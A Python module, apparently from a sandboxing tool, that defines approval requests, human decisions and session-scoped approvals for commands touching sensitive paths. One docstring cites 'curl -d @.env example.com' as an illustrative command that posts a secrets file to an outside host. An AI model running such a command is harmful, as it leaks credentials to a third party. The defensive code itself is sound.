"""Approval requests and decisions, and the commands approved for a session: plain data that
the gate, the broker, the terminal prompt and the TUI pass between them."""

from __future__ import annotations

import os
import shlex
import threading
import time
import uuid
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from enum import StrEnum
from typing import TYPE_CHECKING, Any

from sandboxtui.core.config import settings_table, toml_text
from sandboxtui.core.precheck import PrecheckHit, PrecheckResult

if TYPE_CHECKING:
    from sandboxtui.core.plan import MountPlan

PolicyRow = tuple[str, str, str]  # (config key, value as TOML text, provenance)


class Choice(StrEnum):
    ONCE = "approve-once"
    SESSION = "approve-session"
    EDIT = "edit"
    DENY = "deny"


@dataclass(frozen=True)
class ApprovalRequest:
    """A command that mentions sensitive paths, waiting for a human's decision."""

    id: str
    argv: tuple[str, ...]
    cwd: str
    hits: tuple[PrecheckHit, ...]
    profile: str | None
    time: float
    pid: int  # the process that asks (a headless run, or the TUI itself)
    workspace: str  # the workspace root the command runs in: which console may decide it
    policy: tuple[PolicyRow, ...]  # every setting the command runs under

    @property
    def session_key(self) -> tuple[object, ...]:
        """What an approval for the session covers: this exact command, from this cwd, in
        this workspace, under this policy."""
        return self.argv, self.cwd, self.workspace, self.policy

    @property
    def matched(self) -> tuple[str, ...]:
        return tuple(dict.fromkeys(h.path for h in self.hits))

    @property
    def rules(self) -> tuple[str, ...]:
        return tuple(dict.fromkeys(f"{h.rule} [{h.provenance}]" for h in self.hits))

    def command(self) -> str:
        return shlex.join(self.argv)

    def to_json(self) -> dict[str, Any]:
        return {"id": self.id, "argv": list(self.argv), "cwd": self.cwd,
                "hits": [h.to_json() for h in self.hits], "matched": list(self.matched),
                "profile": self.profile, "time": self.time, "pid": self.pid,
                "workspace": self.workspace, "policy": [list(row) for row in self.policy]}

    @classmethod
    def from_json(cls, data: Mapping[str, Any]) -> ApprovalRequest:
        argv = data["argv"]
        if not isinstance(argv, list) or not argv or not all(isinstance(a, str) for a in argv):
            raise ValueError("argv must be a non-empty list of strings")
        policy = data["policy"]
        if not isinstance(policy, list) or not all(
                isinstance(row, list) and len(row) == 3 and all(isinstance(c, str) for c in row)
                for row in policy):
            raise ValueError("policy must be a list of [key, value, provenance] strings")
        return cls(str(data["id"]), tuple(argv), str(data["cwd"]),
                   tuple(PrecheckHit.from_json(h) for h in data["hits"]),
                   None if data.get("profile") is None else str(data["profile"]),
                   float(data["time"]), int(data["pid"]), str(data["workspace"]),
                   tuple((row[0], row[1], row[2]) for row in policy))


def new_request(argv: Sequence[str], cwd: str, result: PrecheckResult,
                plan: MountPlan) -> ApprovalRequest:
    """A request to run `argv` from `cwd` under `plan` (its workspace, profile and policy)."""
    policy = tuple((key, toml_text(value), provenance)
                   for key, value, provenance in settings_table(plan.policy))
    return ApprovalRequest(uuid.uuid4().hex[:12], tuple(argv), cwd, result.hits,
                           plan.policy.profile, time.time(), os.getpid(), plan.cwd, policy)


@dataclass(frozen=True)
class Decision:
    """A human's (or a rule's) answer; `argv` is the edited command for `Choice.EDIT`."""

    choice: Choice
    who: str  # the console's name, "terminal", "session", "policy", "timeout", ...
    argv: tuple[str, ...] | None = None
    reason: str = ""
    time: float = field(default_factory=time.time)

    def __post_init__(self) -> None:
        if self.choice is Choice.EDIT and not self.argv:
            raise ValueError("an edit decision needs the edited command (a non-empty argv)")

    @property
    def approved(self) -> bool:
        return self.choice in (Choice.ONCE, Choice.SESSION)

    def to_json(self) -> dict[str, Any]:
        return {"choice": self.choice.value, "who": self.who,
                "argv": None if self.argv is None else list(self.argv),
                "reason": self.reason, "time": self.time}

    @classmethod
    def from_json(cls, data: Mapping[str, Any]) -> Decision:
        choice = Choice(data["choice"])
        argv = data.get("argv")
        if argv is not None and (not isinstance(argv, list)
                                 or not all(isinstance(a, str) for a in argv)):
            raise ValueError("argv must be a list of strings")
        return cls(choice, str(data["who"]), None if argv is None else tuple(argv),
                   str(data.get("reason", "")), float(data.get("time", time.time())))


def deny(who: str, reason: str) -> Decision:
    return Decision(Choice.DENY, who, reason=reason)


class ApprovalSession:
    """Commands approved "for the session" (one TUI run, or one broker).

    The key is `ApprovalRequest.session_key`: approving `cat .env` for the session does not
    approve `curl -d @.env example.com`, nor `cat .env` from another directory, workspace or
    policy. Thread-safe: the broker's connection threads consult it.
    """

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self._approved: dict[tuple[object, ...], Decision] = {}

    def remember(self, request: ApprovalRequest, decision: Decision) -> None:
        with self._lock:
            self._approved[request.session_key] = decision

    def lookup(self, request: ApprovalRequest) -> Decision | None:
        """A fresh `approve-session` decision when the command was approved before, else None."""
        with self._lock:
            earlier = self._approved.get(request.session_key)
        if earlier is None:
            return None
        return Decision(Choice.SESSION, "session", reason=f"approved for the session by "
                        f"{earlier.who}")
